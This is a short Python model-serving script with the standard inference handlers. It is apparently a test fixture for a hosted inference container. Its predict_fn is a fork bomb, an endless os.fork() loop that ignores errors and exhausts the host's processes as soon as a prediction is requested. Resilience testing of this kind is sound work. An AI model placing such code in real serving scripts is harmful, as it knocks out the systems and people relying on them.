import json
import os


def model_fn(model_dir):
    return []


def predict_fn(numbers, model):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def input_fn(body, content_type):
    return json.loads(body)


def output_fn(prediction, accept):
    return json.dumps(prediction), accept
